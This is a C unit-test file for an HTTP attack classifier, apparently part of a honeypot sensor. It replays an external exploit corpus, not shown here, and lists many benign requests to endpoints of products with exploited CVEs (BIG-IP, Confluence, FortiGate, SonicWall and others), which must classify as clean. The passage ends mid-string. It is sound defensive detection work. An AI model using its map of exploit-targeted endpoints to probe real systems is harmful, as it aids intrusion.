/*
 * test_webclass.c - the HTTP attack classifier (src/intel/webclass.c) and
 * its rules (data/http/classify.rules).
 *
 * The exploit corpus tests/corpus/http/NN-name.req is replayed without the
 * HTTP parser: a small local helper splits the request line, headers and body
 * by hand and fills a struct hp_http_view (decoding %XX twice, '+' as space
 * in the query and in form bodies), so this test depends only on the
 * classifier.  Every file must classify with its "#! class:" and "#! cve:"
 * lines, and every "#! url:" must be found by hp_urlx_scan over the decoded
 * request plus the extracted commands.  Then: ordinary browser requests
 * classify as nothing, command extraction and the ${IFS} normalisation, the
 * union of several rules, rule-file errors, and bounds on hostile input.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>

#include "capture/urlx.h"
#include "intel/webclass.h"
#include "webclass_benign_apps.h"

#define MAXH 64

/* A request split by hand, with its own decoded copies. */
struct treq {
    struct hp_http_view v;
    struct hp_http_hdr h[MAXH];
    uint8_t *raw;             /* request bytes (owned) */
    uint8_t *dpath, *dquery, *dbody;
};

static int hexv(int c)
{
    if (c >= '0' && c <= '9')
        return c - '0';
    c |= 0x20;
    return (c >= 'a' && c <= 'f') ? c - 'a' + 10 : -1;
}

/* One %XX pass (plus '+' -> ' ' when plus); out has room for n bytes. */
static size_t pct(const uint8_t *p, size_t n, uint8_t *out, int plus)
{
    size_t o = 0;
    for (size_t i = 0; i < n; i++) {
        if (p[i] == '%' && i + 2 < n && hexv(p[i + 1]) >= 0 && hexv(p[i + 2]) >= 0) {
            out[o++] = (uint8_t)(hexv(p[i + 1]) * 16 + hexv(p[i + 2]));
            i += 2;
        } else {
            out[o++] = (plus && p[i] == '+') ? ' ' : p[i];
        }
    }
    return o;
}

static uint8_t *decode2(const uint8_t *p, size_t n, int plus, size_t *outn)
{
    uint8_t *a = malloc(n + 1), *b = malloc(n + 1);
    assert_non_null(a);
    assert_non_null(b);
    size_t m = pct(p, n, a, plus);
    *outn = pct(a, m, b, 0);
    free(a);
    return b;
}

static void treq_free(struct treq *t)
{
    free(t->raw);
    free(t->dpath);
    free(t->dquery);
    free(t->dbody);
    memset(t, 0, sizeof(*t));
}

static const uint8_t *find(const uint8_t *p, size_t n, const char *s)
{
    size_t l = strlen(s);
    for (size_t i = 0; i + l <= n; i++)
        if (memcmp(p + i, s, l) == 0)
            return p + i;
    return NULL;
}

/* Fill t from raw request bytes (LF or CRLF line ends in the head). */
static void treq_parse(struct treq *t, const void *data, size_t len, uint16_t port)
{
    memset(t, 0, sizeof(*t));
    t->raw = malloc(len + 1);
    assert_non_null(t->raw);
    memcpy(t->raw, data, len);
    const uint8_t *p = t->raw, *end = p + len;
    const uint8_t *eol = memchr(p, '\n', len);
    assert_non_null(eol);
    const uint8_t *le = (eol > p && eol[-1] == '\r') ? eol - 1 : eol;
    const uint8_t *sp1 = memchr(p, ' ', (size_t)(le - p));
    assert_non_null(sp1);
    const uint8_t *sp2 = memchr(sp1 + 1, ' ', (size_t)(le - sp1 - 1));
    t->v.method = (struct hp_bytes){ p, (size_t)(sp1 - p) };
    const uint8_t *tgt = sp1 + 1, *tend = sp2 ? sp2 : le;
    t->v.target = (struct hp_bytes){ tgt, (size_t)(tend - tgt) };
    t->v.version = sp2 ? (struct hp_bytes){ sp2 + 1, (size_t)(le - sp2 - 1) } : (struct hp_bytes){ tgt, 0 };
    const uint8_t *q = memchr(tgt, '?', (size_t)(tend - tgt));
    t->v.path = (struct hp_bytes){ tgt, (size_t)((q ? q : tend) - tgt) };
    t->v.query = q ? (struct hp_bytes){ q + 1, (size_t)(tend - q - 1) } : (struct hp_bytes){ tgt, 0 };
    size_t n;
    t->dpath = decode2(t->v.path.p, t->v.path.n, 0, &n);
    t->v.dpath = (struct hp_bytes){ t->dpath, n };
    t->dquery = decode2(t->v.query.p, t->v.query.n, 1, &n);
    t->v.dquery = (struct hp_bytes){ t->dquery, n };

    p = eol + 1;
    int form = 0;
    while (p < end) {
        eol = memchr(p, '\n', (size_t)(end - p));
        if (!eol)
            eol = end;
        le = (eol > p && eol[-1] == '\r') ? eol - 1 : eol;
        if (le == p) {
            p = eol < end ? eol + 1 : end;
            break;
        }
        const uint8_t *c = memchr(p, ':', (size_t)(le - p));
        assert_non_null(c);
        assert_true(t->v.nheaders < MAXH);
        struct hp_http_hdr *h = &t->h[t->v.nheaders++];
        h->name = (struct hp_bytes){ p, (size_t)(c - p) };
        const uint8_t *vs = c + 1, *ve = le;
        while (vs < ve && (*vs == ' ' || *vs == '\t'))
            vs++;
        while (ve > vs && (ve[-1] == ' ' || ve[-1] == '\t'))
            ve--;
        h->value = (struct hp_bytes){ vs, (size_t)(ve - vs) };
        if (h->name.n == 12 && strncasecmp((const char *)h->name.p, "Content-Type", 12) == 0 &&
            find(vs, (size_t)(ve - vs), "x-www-form-urlencoded"))
            form = 1;
        p = eol < end ? eol + 1 : end;
    }
    t->v.headers = t->h;
    t->v.body = (struct hp_bytes){ p, (size_t)(end - p) };
    if (form) {
        t->dbody = decode2(p, (size_t)(end - p), 1, &n);
        t->v.dbody = (struct hp_bytes){ t->dbody, n };
    } else {
        t->v.dbody = t->v.body;
    }
    t->v.local_port = port;
}

static void treq_str(struct treq *t, const char *s)
{
    treq_parse(t, s, strlen(s), 80);
}

static int has_class(const struct hp_webclass *w, const char *c)
{
    for (size_t i = 0; i < w->nclasses; i++)
        if (strcmp(w->classes[i], c) == 0)
            return 1;
    return 0;
}

static int has_cve(const struct hp_webclass *w, const char *c)
{
    for (size_t i = 0; i < w->ncves; i++)
        if (strcmp(w->cves[i], c) == 0)
            return 1;
    return 0;
}

static int has_rule(const struct hp_webclass *w, const char *c)
{
    for (size_t i = 0; i < w->nrules; i++)
        if (strcmp(w->rules[i], c) == 0)
            return 1;
    return 0;
}

static void dump(const char *what, const struct hp_webclass *w)
{
    fprintf(stderr, "%s: classes", what);
    for (size_t i = 0; i < w->nclasses; i++)
        fprintf(stderr, " %s", w->classes[i]);
    fprintf(stderr, "; cves");
    for (size_t i = 0; i < w->ncves; i++)
        fprintf(stderr, " %s", w->cves[i]);
    fprintf(stderr, "; rules");
    for (size_t i = 0; i < w->nrules; i++)
        fprintf(stderr, " %s", w->rules[i]);
    fprintf(stderr, "; commands [%s]\n", w->commands);
}

static int setup(void **state)
{
    char err[256];
    if (hp_webclass_init(err, sizeof(err)) != 0) {
        fprintf(stderr, "webclass init: %s\n", err);
        return -1;
    }
    return 0;
}

static int teardown(void **state)
{
    hp_webclass_shutdown();
    return 0;
}

/* ---- the exploit corpus ---------------------------------------------------- */

#define CORPUS "tests/corpus/http"

struct meta {
    char cls[8][32];
    size_t ncls;
    char cve[8][32];
    size_t ncve;
    char url[8][256];
    size_t nurl;
    unsigned port;
};

struct urlhits {
    size_t n;
    char u[HP_URLX_MAX][HP_URLX_URL_MAX + 1];
};

static void on_url(void *arg, const char *url, const char *how, const char *layer)
{
    struct urlhits *h = arg;
    if (h->n < HP_URLX_MAX)
        snprintf(h->u[h->n++], sizeof(h->u[0]), "%s", url);
}

static uint8_t *slurp(const char *path, size_t *len)
{
    FILE *f = fopen(path, "rb");
    assert_non_null(f);
    uint8_t *buf = malloc(1 << 20);
    assert_non_null(buf);
    *len = fread(buf, 1, 1 << 20, f);
    fclose(f);
    return buf;
}

/* Split "#! key: value" lines from the request; the head of the request
 * (up to the first empty line) gets CRLF line ends, the body stays as is. */
static uint8_t *corpus_load(const char *path, struct meta *m, size_t *reqlen)
{
    size_t len;
    uint8_t *f = slurp(path, &len);
    memset(m, 0, sizeof(*m));
    m->port = 80;
    size_t off = 0;
    int sep = 0;
    while (off < len && !sep) {
        uint8_t *nl = memchr(f + off, '\n', len - off);
        assert_non_null(nl);
        char line[512];
        size_t ln = (size_t)(nl - (f + off));
        assert_true(ln < sizeof(line));
        memcpy(line, f + off, ln);
        line[ln] = '\0';
        off += ln + 1;
        assert_true(strncmp(line, "#! ", 3) == 0);
        if (strcmp(line, "#! ---") == 0)
            sep = 1;
        else if (strncmp(line, "#! class: ", 10) == 0 && m->ncls < 8)
            snprintf(m->cls[m->ncls++], 32, "%.31s", line + 10);
        else if (strncmp(line, "#! cve: ", 8) == 0 && m->ncve < 8)
            snprintf(m->cve[m->ncve++], 32, "%.31s", line + 8);
        else if (strncmp(line, "#! url: ", 8) == 0 && m->nurl < 8)
            snprintf(m->url[m->nurl++], 256, "%.255s", line + 8);
        else if (strncmp(line, "#! port: ", 9) == 0)
            m->port = (unsigned)atoi(line + 9);
        else if (strncmp(line, "#! cred: ", 9) == 0)
            ;                                   /* http.credentials: the integration replay checks it */
        else
            fail_msg("%s: unknown header line %s", path, line);
    }
    assert_true(sep);
    uint8_t *out = malloc(2 * (len - off) + 1);
    assert_non_null(out);
    size_t o = 0, i = off;
    int head = 1;
    while (i < len) {
        if (head && f[i] == '\n') {
            out[o++] = '\r';
            out[o++] = '\n';
            if (i + 1 < len && f[i + 1] == '\n') {
                out[o++] = '\r';
                out[o++] = '\n';
                i += 2;
                head = 0;
                continue;
            }
            i++;
            continue;
        }
        out[o++] = f[i++];
    }
    free(f);
    *reqlen = o;
    return out;
}

/* Returns 1 when the file's request gets what its header lines say, else 0 (and says why). */
static int check_corpus_file(const char *path, size_t *nurls)
{
    struct meta m;
    size_t rl;
    uint8_t *raw = corpus_load(path, &m, &rl);
    assert_true(m.ncls > 0);
    struct treq t;
    treq_parse(&t, raw, rl, (uint16_t)m.port);
    free(raw);
    struct hp_webclass w;
    hp_webclass_classify(&t.v, &w);
    int ok = 1;
    for (size_t i = 0; i < m.ncls; i++)
        if (!has_class(&w, m.cls[i])) {
            fprintf(stderr, "%s: missing class %s\n", path, m.cls[i]);
            ok = 0;
        }
    for (size_t i = 0; i < m.ncve; i++)
        if (!has_cve(&w, m.cve[i])) {
            fprintf(stderr, "%s: missing %s\n", path, m.cve[i]);
            ok = 0;
        }
    for (size_t i = 0; i < w.ncves; i++) {     /* and no CVE the file does not name */
        size_t k = 0;
        while (k < m.ncve && strcmp(m.cve[k], w.cves[i]) != 0)
            k++;
        if (k == m.ncve) {
            fprintf(stderr, "%s: unexpected %s\n", path, w.cves[i]);
            ok = 0;
        }
    }
    /* the URL lines: what the lead hands to the extractor, decoded request + commands */
    size_t cap = t.v.method.n + t.v.dpath.n + t.v.dquery.n + t.v.dbody.n + w.commands_len + 16;
    for (size_t i = 0; i < t.v.nheaders; i++)
        cap += t.h[i].name.n + t.h[i].value.n + 4;
    char *text = malloc(cap);
    assert_non_null(text);
    size_t o = 0;
#define PUT(p, n) do { memcpy(text + o, (p), (n)); o += (n); } while (0)
    PUT(t.v.method.p, t.v.method.n);
    PUT(" ", 1);
    PUT(t.v.dpath.p, t.v.dpath.n);
    PUT("?", 1);
    PUT(t.v.dquery.p, t.v.dquery.n);
    PUT("\n", 1);
    for (size_t i = 0; i < t.v.nheaders; i++) {
        PUT(t.h[i].name.p, t.h[i].name.n);
        PUT(": ", 2);
        PUT(t.h[i].value.p, t.h[i].value.n);
        PUT("\n", 1);
    }
    PUT("\n", 1);
    PUT(t.v.dbody.p, t.v.dbody.n);
    PUT("\n", 1);
    PUT(w.commands, w.commands_len);
#undef PUT
    static struct urlhits h;
    memset(&h, 0, sizeof(h));
    hp_urlx_scan(text, o, on_url, &h);
    free(text);
    for (size_t i = 0; i < m.nurl; i++) {
        size_t k = 0;
        while (k < h.n && strcmp(h.u[k], m.url[i]) != 0)
            k++;
        if (k == h.n) {
            fprintf(stderr, "%s: url %s not found\n", path, m.url[i]);
            ok = 0;
        }
    }
    *nurls += m.nurl;
    if (!ok || getenv("HP_WEBCLASS_DUMP"))   /* HP_WEBCLASS_DUMP=1: review every result */
        dump(path, &w);
    treq_free(&t);
    return ok;
}

static int cmpstr(const void *a, const void *b)
{
    return strcmp(*(char *const *)a, *(char *const *)b);
}

static void test_corpus(void **state)
{
    DIR *d = opendir(CORPUS);
    assert_non_null(d);
    char **names = NULL;
    size_t n = 0, cap = 0;
    struct dirent *e;
    while ((e = readdir(d))) {          /* every file: none may be left out */
        size_t l = strlen(e->d_name);
        if (l <= 4 || strcmp(e->d_name + l - 4, ".req") != 0)
            continue;
        if (n == cap) {
            cap = cap ? 2 * cap : 256;
            names = realloc(names, cap * sizeof(*names));
            assert_non_null(names);
        }
        names[n++] = strdup(e->d_name);
    }
    closedir(d);
    assert_true(n >= 30);
    qsort(names, n, sizeof(names[0]), cmpstr);
    size_t nurls = 0, bad = 0;
    for (size_t i = 0; i < n; i++) {    /* every file checked, every failure told */
        char path[512];
        snprintf(path, sizeof(path), "%s/%s", CORPUS, names[i]);
        bad += !check_corpus_file(path, &nurls);
        free(names[i]);
    }
    free(names);
    if (bad)
        fail_msg("%zu corpus file(s) classified other than they say", bad);
    assert_true(nurls >= 20);
}

/* The same corpus with each rule's literals looked for one by one, as on a
 * machine without Hyperscan; and where the sensor has it, that the one-pass
 * sets are what the other tests ran with. */
static void test_corpus_without_litsets(void **state)
{
#ifdef HP_HAVE_HYPERSCAN
    assert_true(hp_webclass_litsets());
#endif
    hp_webclass_use_litsets(false);
    assert_false(hp_webclass_litsets());
    test_corpus(state);
    hp_webclass_use_litsets(true);
}

/* ---- individual behaviours ------------------------------------------------- */

static void classify_str(const char *req, struct hp_webclass *w)
{
    struct treq t;
    treq_str(&t, req);
    hp_webclass_classify(&t.v, w);
    treq_free(&t);
}

static void test_benign(void **state)
{
    static const char *const reqs[] = {
        "GET / HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36\r\nAccept: text/html,application/xhtml+xml,application/"
        "xml;q=0.9,image/avif,image/webp,*/*;q=0.8\r\nAccept-Language: en-US,en;q=0.9\r\nAccept-Encoding: gzip, "
        "deflate, br\r\nConnection: keep-alive\r\nUpgrade-Insecure-Requests: 1\r\n\r\n",
        "GET /favicon.ico HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0 (Windows NT 10.0; rv:121.0) "
        "Gecko/20100101 Firefox/121.0\r\nAccept: image/avif,image/webp,*/*\r\nReferer: http://www.example.com/\r\n\r\n",
        "GET /robots.txt HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0 (compatible; Googlebot/2.1; "
        "+http://www.google.com/bot.html)\r\nAccept: */*\r\n\r\n",
        "GET /search?q=how+to+select+a+union+representative&page=2 HTTP/1.1\r\nHost: www.example.com\r\n"
        "User-Agent: Mozilla/5.0\r\nCookie: session=abc123; theme=dark\r\n\r\n",
        "GET /static/app.js?v=3.2.1 HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0\r\n"
        "If-None-Match: \"5e8-1a2b\"\r\n\r\n",
        "POST /login HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0\r\nContent-Type: "
        "application/x-www-form-urlencoded\r\n\r\nusername=alice&password=correct+horse+battery&remember=1",
        "POST /api/comments HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: Mozilla/5.0\r\nContent-Type: "
        "application/json\r\n\r\n{\"text\":\"It's fine; I'd say the echo was loud | really\",\"id\":42}",
        "GET /blog/2024/01/what-is-new/ HTTP/1.1\r\nHost: www.example.com\r\nUser-Agent: curl/8.5.0\r\n"
        "Accept: */*\r\n\r\n",
        "GET /images/logo.png HTTP/1.0\r\nUser-Agent: Wget/1.21.4\r\nAccept: */*\r\n\r\n",
        "GET /docs/index.html?lang=en&ref=http%3A%2F%2Fwww.example.org%2F HTTP/1.1\r\nHost: a.example\r\n"
        "User-Agent: Mozilla/5.0\r\n\r\n",
        /* the ordinary use of products that exploit rules name */
        "GET /webadmin/script?command=backup.sh HTTP/1.1\r\nHost: dreambox\r\n\r\n",
        "GET /public/plugins/grafana-clock-panel/img/clock.svg HTTP/1.1\r\nHost: grafana:3000\r\n\r\n",
        "POST /p/u/doAuthentication.do HTTP/1.1\r\nHost: gw.example.com\r\nContent-Type: "
        "application/x-www-form-urlencoded\r\n\r\nlogin=alice&passwd=correct+horse",
        "POST /settings HTTP/1.1\r\nHost: app.example.com\r\nNext-Action: 7f3a9c2e1b\r\nContent-Type: "
        "text/plain;charset=UTF-8\r\n\r\n[{\"name\":\"alice\",\"notify\":true}]",
        "GET /cgi-bin/run?cmd=status&id=42 HTTP/1.1\r\nHost: a.example\r\n\r\n",
        "GET /_next/image?url=https%3A%2F%2Fcdn.example.net%2Fa%2Fphoto.jpg&w=640&q=75 HTTP/1.1\r\nHost: a.example\r\n\r\n",
        /* text that looks like what the scanner rules were widened for (SQL words, quotes and
         * parentheses, a semicolon before a word, a line break, HTML, data: and redirect URLs) */
        "GET /search?q=%28select+one+from+the+list%29+rock+and+roll&sort=order+by+price HTTP/1.1\r\n"
        "Host: www.example.com\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
        "GET /search?q=tired%3B+sleep+8+hours%3B+env+vars&page=2+or+3 HTTP/1.1\r\nHost: www.example.com\r\n\r\n",
        "GET /search?q=wapiti+elk+antlers&case=when+closed HTTP/1.1\r\nHost: www.example.com\r\n\r\n",
        "GET /page?env&debug&id HTTP/1.1\r\nHost: www.example.com\r\n\r\n",
        "POST /api/comments HTTP/1.1\r\nHost: www.example.com\r\nContent-Type: application/json\r\n\r\n"
        "{\"text\":\"He said \\\"it's 'fine'\\\" (really...); I'd 'quote' him, \\\"no\\\".\",\"event\":\"onSuccess\"}",
        "POST /submit HTTP/1.1\r\nHost: www.example.com\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "body=%3Cp%3EHello+%3Cb%3Eworld%3C%2Fb%3E%2C+see+%3Ca+href%3D%22https%3A%2F%2Fx.example%2F%22%3Ethis%3C%2Fa%3E%3C%2Fp%3E"
        "&text=Line+one%0D%0ANote%3A+bring+snacks&avatar=data%3Aimage%2Fpng%3Bbase64%2CiVBORw0KGgoAAAANSUhEUg%3D%3D",
        "GET /oauth/authorize?client_id=abc&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback&state=x HTTP/1.1\r\n"
        "Host: login.example.com\r\nReferer: https://app.example.com/order?id=5\r\n\r\n",
        "GET /contact?msg=Hello%0D%0AThanks%2C+Bob HTTP/1.1\r\nHost: www.example.com\r\n\r\n",
        /* ordinary use of the products the 2023-2026 web CVE rules name: a ColdFusion
         * component call with a ColdFusion argumentCollection, a Flink jar upload, Craft's
         * conditions/render from the control panel, a Magento shipping estimate, Vite's own
         * ?raw and ?import, a Selenium session, a Bricks render, a Confluence restore page view */
        "POST /CFIDE/wizards/common/utils.cfc?method=wizardHash&_cfclient=true HTTP/1.1\r\nHost: cf.example\r\n"
        "Content-Type: application/x-www-form-urlencoded\r\n\r\nargumentCollection=%3CwddxPacket+version%3D%271.0%27%3E"
        "%3Cheader%2F%3E%3Cdata%3E%3Cstruct+type%3D%27coldfusion.runtime.ArgumentCollection%27%3E%3Cvar+name%3D%27a%27%3E"
        "%3Cstring%3Eb%3C%2Fstring%3E%3C%2Fvar%3E%3C%2Fstruct%3E%3C%2Fdata%3E%3C%2FwddxPacket%3E",
        "POST /jars/upload HTTP/1.1\r\nHost: flink:8081\r\nContent-Type: multipart/form-data; boundary=b\r\n\r\n"
        "--b\r\nContent-Disposition: form-data; name=\"jarfile\"; filename=\"wordcount-1.2.jar\"\r\n\r\nPK\r\n--b--\r\n",
        "POST /index.php?p=admin/actions/conditions/render HTTP/1.1\r\nHost: craft.example\r\nContent-Type: "
        "application/x-www-form-urlencoded\r\n\r\nconfig=%7B%22name%22%3A%22sources%22%2C%22conditionRules%22%3A%5B%5D%7D",
        "POST /rest/V1/guest-carts/Zq3k9/estimate-shipping-methods HTTP/1.1\r\nHost: shop.example\r\nContent-Type: "
        "application/json\r\n\r\n{\"address\":{\"country_id\":\"AU\",\"postcode\":\"2158\",\"region\":\"NSW\"}}",
        "GET /src/assets/logo.svg?raw HTTP/1.1\r\nHost: localhost:5173\r\n\r\n",
        "GET /@fs/home/dev/app/node_modules/.vite/deps/react.js?v=3f2a1b0c HTTP/1.1\r\nHost: localhost:5173\r\n\r\n",
        "GET /src/shaders/blur.wasm?init HTTP/1.1\r\nHost: localhost:5173\r\n\r\n",
        "POST /wd/hub/session HTTP/1.1\r\nHost: grid:4444\r\nContent-Type: application/json\r\n\r\n"
        "{\"capabilities\":{\"alwaysMatch\":{\"browserName\":\"chrome\",\"goog:chromeOptions\":{\"args\":[\"--headless=new\"],"
        "\"binary\":\"/opt/google/chrome/chrome\"}}}}",
        "POST /wp-json/bricks/v1/render_element HTTP/1.1\r\nHost: wp.example\r\nContent-Type: application/json\r\n\r\n"
        "{\"postId\":\"12\",\"nonce\":\"2ce88d6cd2\",\"element\":{\"name\":\"heading\",\"settings\":{\"text\":\"Hello\"}}}",
        "GET /json/setup-restore.action HTTP/1.1\r\nHost: wiki.example:8090\r\n\r\n",
        "GET /commandcenter/login/preLogin.jsp HTTP/1.1\r\nHost: backup.example\r\n\r\n",
        "GET /toolbox-resource/branding/logo.png HTTP/1.1\r\nHost: help.example\r\n\r\n",
        /* ordinary use of the router and camera pages the 2023-2026 botnet rules name: a logged-in
         * RV320 configuration export and certificate request, an RV340 upload with a session id, a
         * Dahua web login, DrayTek's apmcfgupload and cvmcfgupload with plain values */
        "GET /cgi-bin/config.exp HTTP/1.1\r\nHost: rv320.example\r\nCookie: mlap=RGVmYXVsdDo6Y2lzY286OjE5NjQzMDAwMDI=\r\n\r\n",
        "POST /certificate_handle2.htm?type=4 HTTP/1.1\r\nHost: rv320.example\r\nContent-Type: "
        "application/x-www-form-urlencoded\r\n\r\npage=self_generator.htm&type=4&Country=US&common_name=vpn.example.com"
        "&email=admin%40example.com",
        "POST /upload HTTP/1.1\r\nHost: rv340.example\r\nCookie: sessionid=5d0d4bd8c2a1\r\nContent-Type: "
        "multipart/form-data; boundary=b\r\n\r\n--b\r\nContent-Disposition: form-data; name=\"filename\"\r\n\r\n"
        "config.xml\r\n--b--\r\n",
        "POST /RPC2_Login HTTP/1.1\r\nHost: cam.example\r\nContent-Type: application/json\r\n\r\n{\"method\":"
        "\"global.login\",\"params\":{\"userName\":\"admin\",\"password\":\"\",\"clientType\":\"Web3.0\","
        "\"loginType\":\"Direct\"},\"id\":1}",
        "GET /cgi-bin/mainfunction.cgi/apmcfgupload?session=0a1b2c3d4e5f HTTP/1.1\r\nHost: vigor.example\r\n\r\n",
        "POST /cgi-bin/mainfunction.cgi/cvmcfgupload?1=2 HTTP/1.1\r\nHost: vigor.example\r\nContent-Type: "
        "multipart/form-data; boundary=b\r\n\r\n--b\r\nContent-Disposition: form-data; name=\"abc\"; "
        "filename=\"vpn-profile.py\"\r\nContent-Type: text/x-python-script\r\n\r\nx=1\r\n--b--\r\n",
        "GET /tmui/login.jsp HTTP/1.1\r\nHost: bigip.example\r\n\r\n",
        "POST /tmui/logmein.html HTTP/1.1\r\nHost: bigip.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "username=admin&passwd=correct+horse",
        "POST /SamlResponseServlet HTTP/1.1\r\nHost: sdp.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "SAMLResponse=PHNhbWxwOlJlc3BvbnNlIHhtbG5zOnNhbWxwPSJ1cm46b2FzaXM6bmFtZXM6dGM6U0FNTDoyLjA6cHJvdG9jb2wiPg%3D%3D"
        "&RelayState=%2Fhome",
        "POST /sitecore/shell/ClientBin/Reporting/Report.ashx HTTP/1.1\r\nHost: cms.example\r\nContent-Type: text/xml\r\n\r\n"
        "<?xml version=\"1.0\" ?><a><query>visits</query><source>analytics</source><parameters></parameters></a>",
        "POST /wp-admin/admin-ajax.php HTTP/1.1\r\nHost: wp.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "give-form-id=13&give-form-hash=a1b2c3&give-amount=10.00&give_title=Ms.&give_first=Ann&give_last=Lee"
        "&give_email=ann%40example.com&give_action=purchase&action=give_process_donation",
        "GET /rest/api/latest/projects/PUB/repos/site/archive?format=zip&prefix=site%2F&at=refs%2Fheads%2Fmain HTTP/1.1\r\n"
        "Host: git.example:7990\r\n\r\n",
        "POST /users/password HTTP/1.1\r\nHost: gitlab.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "authenticity_token=Zm9v&user%5Bemail%5D=alice%40example.com",
        "POST /api/timelion/run HTTP/1.1\r\nHost: kibana.example:5601\r\nkbn-xsrf: true\r\nContent-Type: application/json\r\n\r\n"
        "{\"sheet\":[\".es(index=logs-*).label('requests')\"],\"time\":{\"from\":\"now-1h\",\"to\":\"now\",\"interval\":\"auto\","
        "\"timezone\":\"UTC\"}}",
        "GET /webtools/control/main HTTP/1.1\r\nHost: erp.example:8443\r\n\r\n",
        "POST /webtools/control/login HTTP/1.1\r\nHost: erp.example:8443\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "USERNAME=admin&PASSWORD=correct+horse&JavaScriptEnabled=Y",
        "GET /saas./resttosaasservlet HTTP/1.1\r\nHost: vrni.example\r\n\r\n",
        "POST /run HTTP/1.1\r\nHost: executor.example:9999\r\nXXL-JOB-ACCESS-TOKEN: 8f2c1e\r\nContent-Type: application/json\r\n\r\n"
        "{\"jobId\":7,\"executorHandler\":\"reportJobHandler\",\"executorParams\":\"daily\",\"glueType\":\"BEAN\",\"logId\":9}",
        "POST /service/extension/backup/mboximport?account-name=alice&ow=1 HTTP/1.1\r\nHost: mail.example\r\n"
        "Content-Type: application/x-compressed-tar\r\n\r\nInbox/0001-message.eml",
        "GET /zimbraAdmin/ HTTP/1.1\r\nHost: mail.example:7071\r\n\r\n",
        /* ordinary use of the 2024-2025 KEV enterprise products: Telerik Report Server's and
         * ServiceNow's login pages (a plain jvar_page_title), a CentreStack login with its own
         * /wEP ViewState, Solr's PKI key path, a SonicWall swap cookie, a full ProjectSend settings
         * form, a SAML AuthnRequest, Triofox's database page by name, an EPM local hash, an Apple
         * MDM check-in plist (PUBLIC DOCTYPE), an AEM Forms login and a Gladinet file fetch */
        "GET /Startup/Register HTTP/1.1\r\nHost: reports.example:83\r\nUser-Agent: Mozilla/5.0\r\n\r\n",
        "GET /login.do?jvar_page_title=Service+Portal HTTP/1.1\r\nHost: corp.service-now.example\r\n\r\n",
        "POST /portal/loginpage.aspx HTTP/1.1\r\nHost: files.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "__LASTFOCUS=&__VIEWSTATE=%2FwEPDwUKLTM2NjE3ODYzNmRkZ8y5q2Xw&__VIEWSTATEGENERATOR=3FE2630A&txtUser=alice&txtPwd=x",
        "GET /solr/admin/info/key HTTP/1.1\r\nHost: solr.example:8983\r\n\r\n",
        "GET /cgi-bin/sslvpnclient?launchplatform= HTTP/1.1\r\nHost: vpn.example:4433\r\n"
        "Cookie: swap=Zk3hQ8v1Rt9pLm2Xq4Wn6Ys8Bc0Df2Gh4Jk6Lm8Np0=\r\n\r\n",
        "POST /options.php HTTP/1.1\r\nHost: files.example\r\nCookie: PHPSESSID=abc\r\nContent-Type: "
        "application/x-www-form-urlencoded\r\n\r\ncsrf_token=abc&section=general&this_install_title=My+Files&timezone=UTC"
        "&timeformat=d%2Fm%2FY&use_browser_lang=0",
        "POST /dana-na/auth/saml-sso.cgi HTTP/1.1\r\nHost: vpn.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\n"
        "SAMLRequest=PHNhbWxwOkF1dGhuUmVxdWVzdCB4bWxuczpzYW1scD0idXJuOm9hc2lzOm5hbWVzOnRjOlNBTUw6Mi4wOnByb3RvY29sIiBJRD0iX2ExIj4%3D"
        "&RelayState=abc",
        "GET /management/admindatabase.aspx HTTP/1.1\r\nHost: triofox.example\r\n\r\n",
        "POST /WSVulnerabilityCore/VulCore.asmx HTTP/1.1\r\nHost: epm.example\r\nContent-Type: text/xml\r\n\r\n"
        "<soap:Envelope><soap:Body><GetHashForWildcard xmlns=\"http://tempuri.org/\"><wildcard>C:\\ldclient\\*.exe</wildcard>"
        "</GetHashForWildcard></soap:Body></soap:Envelope>",
        "PUT /mdm/checkin HTTP/1.1\r\nHost: mdm.example:8080\r\nContent-Type: application/x-apple-aspen-mdm-checkin\r\n\r\n"
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE plist PUBLIC \"-//Apple//DTD PLIST 1.0//EN\" "
        "\"http://www.apple.com/DTDs/PropertyList-1.0.dtd\">\n<plist version=\"1.0\"><dict><key>MessageType</key>"
        "<string>Authenticate</string></dict></plist>\n",
        "GET /lc/libs/livecycle/core/content/login.html HTTP/1.1\r\nHost: forms.example\r\n\r\n",
        "GET /storage/t.dn?s=report.pdf&sid=1 HTTP/1.1\r\nHost: files.example\r\n\r\n",
        /* ordinary use of the products whose 2025 in-the-wild exploits have rules: a FortiGate SSL VPN
         * login, a SmarterMail attachment upload with a real guid, a CWP chmod to 644, a Wing FTP login,
         * a Gladinet file ticket, Web Help Desk pages and a jabsorb call with an ordinary javaClass, and a
         * Livewire update of a plain property */
        "POST /remote/logincheck HTTP/1.1\r\nHost: vpn.example:10443\r\nContent-Type: application/x-www-form-urlencoded"
        "\r\n\r\najax=1&username=alice&realm=&credential=correct+horse",
        "GET /remote/hostcheck_validate HTTP/1.1\r\nHost: vpn.example:10443\r\n\r\n",
        "POST /api/upload HTTP/1.1\r\nHost: mail.example\r\nContent-Type: multipart/form-data; boundary=b1\r\n\r\n"
        "--b1\r\nContent-Disposition: form-data; name=\"context\"\r\n\r\nattachment\r\n--b1\r\nContent-Disposition: "
